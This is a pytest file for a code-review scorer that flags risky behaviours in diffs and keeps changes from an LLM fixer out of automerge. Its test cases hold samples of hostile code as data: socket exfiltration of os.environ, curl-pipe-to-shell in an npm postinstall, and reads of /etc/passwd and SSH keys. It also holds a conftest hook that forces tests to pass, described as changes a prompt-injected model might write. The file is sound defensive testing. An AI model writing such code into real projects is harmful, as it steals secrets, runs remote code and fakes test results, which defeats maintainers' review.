"""What a change makes the code do (app/policy/behaviour.py), and how the score weighs it.

The cases are the ones an attacker steering a model would write (the issue's own: four
lines that send ``os.environ`` through a socket, a conftest hook that forces tests to
pass) and the ones that must not count (a comment or a string that names
``subprocess``, code that only moved).
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.policy.behaviour import KINDS, SAYS, behaviours
from app.policy.diff import parse_diff
from app.policy.evidence import Scope, TestDelta
from app.policy.features import extract
from app.policy.policy_model import LADDER, BehaviourWeights
from app.policy.score import Score, Verification, score
from tests.policy_helpers import by, default_policy, gdiff, passed, policy_with

PY_CMD = ["python", "-m", "pytest", "-q"]

EXFILTRATE = [
    "    try:",
    "        import socket",
    '        socket.create_connection(("198.51.100.7", 443)).sendall(',
    "            repr(dict(os.environ)).encode())",
    "    except OSError:",
    "        pass",
]
FORCE_PASS = [
    "import pytest",
    "",
    "",
    "@pytest.hookimpl(hookwrapper=True)",
    "def pytest_runtest_makereport(item, call):",
    "    outcome = yield",
    '    outcome.get_result().outcome = "passed"',
]

# (name, path, added lines, removed lines, the kinds expected)
CASES: list[tuple[str, str, list[str], list[str], set[str]]] = [
    ("socket-exfiltration", "src/util.py", EXFILTRATE, [], {"network", "environment"}),
    ("print-environ", "src/util.py", ["    print(dict(os.environ))"], [], {"environment"}),
    ("getenv", "src/cfg.py", ['    token = os.getenv("TOKEN")'], [], {"environment"}),
    ("from-os-environ", "src/cfg.py", ["from os import environ as E", "x = E['A']"], [],
     {"environment"}),
    ("socket-alias", "src/a.py", ["import socket as s", "s.create_connection(('h', 1))"], [],
     {"network"}),
    ("requests", "src/a.py", ["    requests.post(URL, json=data)"], [], {"network"}),
    ("urlopen", "src/a.py", ["from urllib.request import urlopen", "urlopen(u).read()"], [],
     {"network"}),
    ("subprocess-fragment", "src/a.py", ["    out = subprocess.run(['git', 'log'],"], [],
     {"process"}),
    ("os-system", "src/a.py", ['    os.system("make")'], [], {"process"}),
    ("eval", "src/a.py", ["    value = eval(expression)"], [], {"dynamic_code"}),
    ("exec-fragment", "src/a.py", ["        exec(code, {}"], [], {"dynamic_code"}),
    ("import-module", "src/a.py", ["    mod = importlib.import_module(name)"], [],
     {"dynamic_code"}),
    ("dunder-import", "src/a.py", ["    m = __import__(name)"], [], {"dynamic_code"}),
    ("pickle", "src/a.py", ["    return pickle.loads(blob)"], [], {"deserialisation"}),
    ("yaml-load", "src/a.py", ["    cfg = yaml.load(text)"], [], {"deserialisation"}),
    ("pip-install", "src/a.py",
     ["    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])"], [],
     {"process", "package_install"}),
    ("etc-passwd", "src/a.py", ["    data = open('/etc/passwd').read()"], [], {"outside_files"}),
    ("home-ssh", "src/a.py", ["    key = (Path.home() / '.ssh' / 'id_rsa').read_text()"], [],
     {"outside_files"}),
    ("proc-environ", "src/a.py", ["    open('/proc/self/environ').read()"], [], {"environment"}),
    ("conftest-hook", "tests/conftest.py", FORCE_PASS, [], {"test_harness"}),
    ("hook-elsewhere", "src/plugin.py", ["def pytest_collection_modifyitems(items):"], [],
     {"test_harness"}),
    ("sitecustomize", "src/sitecustomize.py", ["x = 1"], [], {"test_harness"}),
    ("pth-file", "src/zz_evil.pth", ["import os"], [], {"test_harness"}),
    ("addopts", "pyproject.toml", ["[tool.pytest.ini_options]", 'addopts = "-p no:randomly"'],
     [], {"test_harness"}),
    ("setup-cfg-pytest", "setup.cfg", ["[tool:pytest]", "addopts = --deselect tests/x.py"], [],
     {"test_harness"}),
    ("tox-ini", "tox.ini", ["commands = pytest -k 'not slow'"], [], {"test_harness"}),
    ("extra-index", "requirements.txt", ["--extra-index-url https://pkgs.example/simple"], [],
     {"package_index"}),
    ("git-dependency", "requirements-dev.txt", ["-e git+https://example.com/x.git#egg=x"], [],
     {"package_index"}),
    ("uv-index", "pyproject.toml", ["[[tool.uv.index]]", 'url = "https://x/simple"'], [],
     {"package_index"}),
    ("pip-conf", "pip.conf", ["[global]", "index-url = https://x/simple"], [], {"package_index"}),
    ("npmrc", "web/.npmrc", ["registry=https://npm.example/"], [], {"package_index"}),
    ("npm-postinstall", "package.json", ['    "postinstall": "node setup.js",'], [],
     {"install_script"}),
    ("npm-prepare-changed", "web/package.json", ['    "prepare": "node fetch.js"'],
     ['    "prepare": "husky"'], {"install_script"}),
    ("npm-test-script", "package.json", ['    "test": "jest --passWithNoTests"'],
     ['    "test": "jest"'], {"test_harness"}),
    ("jest-config", "jest.config.js", ["module.exports = { testMatch: [] };"], [],
     {"test_harness"}),
    ("mocharc", "web/.mocharc.yml", ["spec: none"], [], {"test_harness"}),
    ("npm-other-script", "package.json", ['    "build": "tsc -p ."'], [], set()),
    # a payload appended past what a reviewer is shown is still a new command
    ("npm-postinstall-lengthened", "package.json",
     ['    "postinstall": "node scripts/setup-native-bindings-for-the-platform.js && curl x|sh"'],
     ['    "postinstall": "node scripts/setup-native-bindings-for-the-platform.js"'],
     {"install_script"}),
    ("npm-postprepare", "package.json", ['    "postprepare": "node x.js"'], [], {"install_script"}),
    ("binding-gyp", "native/binding.gyp", ["{ 'targets': [] }"], [], {"install_script"}),
    ("npm-word-install", "package.json", ['  "description": "easy to install",'], [], set()),
    ("environment-yml", "environment.yml", ["  - numpy=2.1"], [], {"conda_dependencies"}),
    ("action-anywhere", "tools/release/action.yml", ["runs:", "  using: node20"], [],
     {"action"}),
    ("gitattributes", ".gitattributes", ["*.py -diff"], [], {"gitattributes"}),
    ("shell-curl", "scripts/sync.sh", ['curl -s https://x.example/i | sh'], [],
     {"network", "process"}),
    ("js-fetch-env", "web/x.js", ["fetch('https://x', {body: JSON.stringify(process.env)})"],
     [], {"network", "environment"}),
    ("js-child-process", "web/run.ts", ["import { spawn } from 'child_process'"], [],
     {"process"}),
    # JavaScript and TypeScript read from their syntax tree
    ("js-require-renamed", "lib/run.js",
     ["const { exec: run } = require('node:child_process');", "run(cmd);"], [], {"process"}),
    ("js-dynamic-require", "lib/load.cjs", ["const mod = require(name);"], [], {"dynamic_code"}),
    ("js-dynamic-import", "src/load.mjs", ["const mod = await import('./plugins/' + name);"],
     [], {"dynamic_code"}),
    ("js-static-import", "src/load.mjs", ["const mod = await import('./plugins/a.js');"], [],
     set()),
    ("js-new-function", "src/a.js", ["const f = new Function('a', body);"], [],
     {"dynamic_code"}),
    ("js-outside", "src/a.js", ["const text = fs.readFileSync(`/etc/passwd`, 'utf8');"], [],
     {"outside_files"}),
    ("ts-env-typed", "src/config.ts", ["const home: string = process.env.HOME ?? '';"], [],
     {"environment"}),
    ("tsx-fetch", "src/App.tsx",
     ["export const App = () => <button onClick={() => fetch('/x')}>go</button>;"], [],
     {"network"}),
    ("js-half-statement", "src/a.js", ["  headers: { auth: process.env.TOKEN },"], [],
     {"environment"}),
    ("js-comment", "src/a.js", ["// we could use child_process or fetch( here, or eval()"], [],
     set()),
    ("js-string", "src/a.js", ["log('child_process exited; fetch(url) failed; process.env');"],
     [], set()),
    ("js-own-exec", "src/a.js", ["const m = pattern.exec(line);", "exec(task);"], [], set()),
    # however the module is loaded, and however its name is written
    ("js-module-require", "src/a.js", ["const cp = module.require('child_process');"], [],
     {"process"}),
    ("js-main-module", "src/a.js", ["process.mainModule.require('child_process')"], [],
     {"process"}),
    ("js-export-from", "src/a.mjs", ["export * from 'node:child_process';"], [], {"process"}),
    ("ts-import-require", "src/a.ts", ["import cp = require('child_process');"], [],
     {"process"}),
    ("js-escaped-name", "src/a.js", ["const cp = require('child\\x5fprocess');"], [],
     {"process"}),
    # What must not count.
    ("comment", "src/a.py", ["    # subprocess.run would be simpler; socket too"], [], set()),
    ("string", "src/a.py", ['    msg = "call subprocess.run or eval() yourself"'], [], set()),
    ("docstring", "src/a.py", ['    """Reads os.environ and opens a socket."""'], [], set()),
    ("safe-yaml", "src/a.py", ["    cfg = yaml.load(text, Loader=yaml.SafeLoader)"], [], set()),
    ("method-named-eval", "src/a.py", ["    model.eval()", "    self.compile()"], [], set()),
    ("ordinary-open", "src/a.py", ["    with open(path, encoding='utf-8') as f:"], [], set()),
    ("importlib-resources", "src/a.py",
     ["from importlib import resources", "data = resources.files('pkg').joinpath('x')",
      "v = importlib.metadata.version('pkg')"], [], set()),
    ("spec-from-file", "src/a.py",
     ["spec = importlib.util.spec_from_file_location('m', path)"], [], {"dynamic_code"}),
    ("docstring-install", "src/a.py", ['    """Install it with pip install foo."""'], [],
     set()),
    ("string-install", "src/a.py", ['    HINT = "run: pip install foo"'], [],
     {"package_install"}),
    ("backslash-literal", "src/a.py", ["SEP = '\\\\\\\\'"], [], set()),
    ("unc-path", "src/a.py", ["share = open(r'\\\\fileserver\\secrets\\x.txt')"], [],
     {"outside_files"}),
    ("moved-code", "src/a.py", ["def run():", "    return subprocess.run(cmd)"],
     ["def _run():", "    return subprocess.run(cmd)"], set()),
    # The same call, made worse (issue 32: shell=True on a moved call scored 5, low).
    ("now-through-a-shell", "src/a.py", ['    subprocess.run(f"{name} --version", shell=True)'],
     ['    subprocess.run([name, "--version"])'], {"process"}),
    ("command-built-from-values", "src/a.py", ['    os.system("git log " + ref)'],
     ['    os.system("git log")'], {"process"}),
    ("command-by-format", "src/a.py", ['    os.popen("ls {}".format(path))'],
     ['    os.popen("ls")'], {"process"}),
    ("tls-off", "src/a.py", ["    session.get(url, verify=False)"],
     ["    session.get(url)"], {"network"}),
    ("same-call-other-literals", "src/a.py", ['    subprocess.run(["git", "status"])'],
     ['    subprocess.run(["git", "log"])'], set()),
    ("shell-false", "src/a.py", ["    subprocess.run(cmd, shell=False)"],
     ["    subprocess.run(cmd)"], set()),
    ("still-through-a-shell", "src/a.py", ["    subprocess.run(cmd, shell=True, check=True)"],
     ["    subprocess.run(cmd, shell=True)"], set()),
    ("now-loading", "src/a.py", ["    data = pickle.loads(blob)"],
     ["    blob = pickle.dumps(data)"], {"deserialisation"}),
    ("still-loading", "src/a.py", ["    return pickle.loads(raw)"],
     ["    return pickle.loads(blob)"], set()),
    ("weights-only-off", "src/a.py", ["    m = torch.load(f, weights_only=False)"],
     ["    m = torch.load(f)"], {"deserialisation"}),
    ("allow-pickle", "src/a.py", ["    a = numpy.load(f, allow_pickle=True)"],
     ["    a = numpy.load(f)"], {"deserialisation"}),
    ("yaml-unsafe-loader", "src/a.py", ["    x = yaml.load(f, Loader=yaml.Loader)"],
     ["    x = yaml.load(f, Loader=yaml.SafeLoader)"], {"deserialisation"}),
    ("wider-mode", "src/a.py", ["    os.chmod(path, 0o777)"], ["    os.chmod(path, 0o644)"],
     {"file_mode"}),
    ("narrower-mode", "src/a.py", ["    os.chmod(path, 0o600)"], ["    os.chmod(path, 0o644)"],
     set()),
    ("setuid-by-stat", "src/a.py", ["    Path(p).chmod(stat.S_IRWXU | stat.S_ISUID)"], [],
     {"file_mode"}),
    ("mkdir-world-writable", "src/a.py", ["    Path(d).mkdir(mode=0o777, parents=True)"], [],
     {"file_mode"}),
    ("makedirs-positional", "src/a.py", ["    os.makedirs(d, 0o777, exist_ok=True)"], [],
     {"file_mode"}),
    ("mode-bit-added", "src/a.py", ["    os.chmod(p, os.stat(p).st_mode | stat.S_IWOTH)"],
     ["    os.chmod(p, os.stat(p).st_mode | stat.S_IXUSR)"], {"file_mode"}),
    ("mode-bit-kept-narrow", "src/a.py", ["    os.chmod(p, os.stat(p).st_mode | stat.S_IXUSR)"],
     [], set()),
    ("mode-star-import", "src/a.py", ["    os.chmod(p, S_IRWXU | S_IRWXG | S_IRWXO)"], [],
     {"file_mode"}),
    ("path-mkdir-positional", "src/a.py", ["    Path(d).mkdir(0o777, True)"], [],
     {"file_mode"}),
    ("os-mkdir-positional", "src/a.py", ["    os.mkdir(d, 0o700)"], [], set()),
    ("chmod-long-options", "scripts/install.sh", ["chmod --recursive 777 /srv/app"], [],
     {"file_mode"}),
    ("chmod-clauses", "scripts/install.sh", ["chmod u+rwx,o+w shared/"], [], {"file_mode"}),
    ("umask-cleared", "src/a.py", ["    os.umask(0)"], ["    os.umask(0o022)"], {"file_mode"}),
    ("umask-kept", "src/a.py", ["    os.umask(0o077)"], [], set()),
    ("chmod-in-a-script", "scripts/install.sh", ["chmod -R 777 /srv/app"], [], {"file_mode"}),
    ("chmod-setuid-symbolic", "Makefile", ["\tchmod u+s bin/tool"], [], {"file_mode"}),
    ("chmod-executable", "scripts/install.sh", ["chmod +x bin/tool", "chmod 0755 bin/x"], [],
     set()),
    # A key no detector knows (issue 32: an AWS secret under a neutral key).
    ("opaque-literal", "src/a.py", ['CFG = {"k": "7AGbX6hQ2rL9vT4mN8pW1sK5dF3jZ0cYe/Bu+Ex"}'],
     [], {"opaque_literal"}),
    ("opaque-fragment", "src/a.py", ['    "k": "7AGbX6hQ2rL9vT4mN8pW1sK5dF3jZ0cYe/Bu+Ex",'],
     [], {"opaque_literal"}),
    ("hex-digest", "src/a.py", [f'SHA = "{"9f86d081884c7d65" * 4}"'], [], set()),
    ("uuid", "src/a.py", ['ID = "123e4567-e89b-12d3-a456-426614174000"'], [], set()),
    ("header-name", "src/a.py", ['H = "X-Patchwarden-Signature-256"'], [], set()),
    ("plain-requirement", "requirements.txt", ["requests==2.32.3"], [], set()),
    ("shell-comment", "scripts/x.sh", ["# curl is not used here"], [], set()),
    ("removed-file", "src/gone.py", [], ["import socket"], set()),
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "add", "remove", "kinds"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_the_behaviours_a_change_adds(
    path: str, add: list[str], remove: list[str], kinds: set[str]
) -> None:
    diff = parse_diff(gdiff(path, add, remove, deleted=not add and bool(remove)))
    found = [b for f in diff.files for b in behaviours(f)]
    assert {b.kind for b in found} == kinds, [(b.kind, b.where, b.what) for b in found]
    for b in found:
        assert b.path == path
        assert "`" not in b.what


def test_each_place_is_named_with_its_line() -> None:
    diff = parse_diff(gdiff("src/util.py", ["x = 1", *EXFILTRATE]))
    places = {(b.kind, b.line) for f in diff.files for b in behaviours(f)}
    assert ("network", 3) in places  # `import socket`, the third added line
    assert ("environment", 5) in places  # `repr(dict(os.environ))`


def verification(fixer: str) -> Verification:
    # New tests that agree show the problem (not_reproduced and model_tests_only are
    # tested in test_policy.py).
    tests = TestDelta(
        command=PY_CMD, source="detected", base=passed(5), head=passed(6), reproduced=["t::x"]
    )
    return by(fixer, tests=tests, scope=Scope(), agreed=True)


def scored(diff: str, fixer: str, policy: Any = None) -> Score:
    p = policy or policy_with("autonomy: automerge\n")
    return score(extract(parse_diff(diff), p), p, verification=verification(fixer))


def test_an_obeyed_injection_never_merges_itself() -> None:
    """The issue's attack: four lines in util.py, written by the llm fixer, under
    automerge. It scored 20 and merged; now it waits for a maintainer."""
    s = scored(gdiff("src/util.py", EXFILTRATE), "llm")
    assert s.decision == "review"
    hit = next(r for r in s.rules if r.rule == "behaviour")
    assert "network use" in hit.reason
    assert "reads of the environment" in hit.reason
    factors = {c.factor: c for c in s.contributions}
    assert factors["behaviour:network"].points == 20
    assert "`src/util.py:2`" in factors["behaviour:network"].reason
    assert factors["behaviour:environment"].points == 15


def test_a_forced_pass_conftest_never_merges_itself() -> None:
    s = scored(gdiff("tests/conftest.py", FORCE_PASS, new=True), "llm")
    assert s.decision == "review"
    assert "behaviour:test_harness" in {c.factor for c in s.contributions}


def test_the_same_change_without_behaviour_still_merges() -> None:
    s = scored(gdiff("src/util.py", ["    return a + b"], ["    return a - b"]), "llm")
    assert s.decision == "automerge"
    assert not [c for c in s.contributions if c.factor.startswith("behaviour:")]


def test_the_hold_is_per_fixer_and_configurable() -> None:
    diff = gdiff("src/util.py", ["    print(dict(os.environ))"])
    # lint's change is not held by the rule (its points still count)
    lint = scored(diff, "lint")
    assert "behaviour" not in {r.rule for r in lint.rules}
    assert "behaviour:environment" in {c.factor for c in lint.contributions}
    # a fixer Patchwarden does not know is held like a model
    assert "behaviour" in {r.rule for r in scored(diff, "mystery").rules}
    # a maintainer can hold lint too, or nobody
    held = policy_with("autonomy: automerge\nbehaviour:\n  never_automerge: [llm, lint]\n")
    assert scored(diff, "lint", held).decision == "review"
    free = policy_with(
        "autonomy: automerge\nbehaviour:\n  never_automerge: []\n  weights: {environment: 0}\n"
    )
    assert scored(diff, "llm", free).decision == "automerge"


def test_a_wrong_never_automerge_entry_is_refused_with_its_line() -> None:
    from app.policy.policy_model import PolicyError

    with pytest.raises(PolicyError) as err:
        policy_with("behaviour:\n  never_automerge: [robot]\n")
    assert ".github/patchwarden.yml:2" in str(err.value)
    assert "never_automerge" in str(err.value)


RISKY = [c for c in CASES if c[4]]
PLAIN = st.lists(
    st.sampled_from(["x = 1", "    return a + b", "def f(a, b):", "# fine", "y = [1, 2]"]),
    min_size=1,
    max_size=5,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(PLAIN, st.sampled_from(RISKY), st.sampled_from(["llm", "lint", "revert"]))
def test_adding_a_behaviour_never_lowers_the_score_or_loosens_the_decision(
    plain: list[str], risky: tuple[str, str, list[str], list[str], set[str]], fixer: str
) -> None:
    base = gdiff("src/app.py", plain)
    before = scored(base, fixer)
    after = scored(base + gdiff(risky[1], risky[2], risky[3]), fixer)
    assert after.score >= before.score
    assert LADDER.index(after.decision) <= LADDER.index(before.decision)
    if fixer == "llm":
        assert after.decision != "automerge"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=8))
def test_reading_behaviour_never_raises_on_any_text(lines: list[str]) -> None:
    diff = parse_diff(gdiff("src/x.py", [line.replace("\n", " ") for line in lines]))
    for f in diff.files:
        behaviours(f)


def test_the_default_policy_holds_the_llm_fixer() -> None:
    assert default_policy().behaviour.never_automerge == ["llm"]


def test_every_behaviour_kind_has_a_weight_a_phrase_and_a_default() -> None:
    """A new kind without a weight would fail only when a diff first shows it."""
    assert set(BehaviourWeights.model_fields) == set(KINDS) == set(SAYS)
    weights = default_policy().behaviour.weights
    assert all(getattr(weights, kind) > 0 for kind in KINDS)
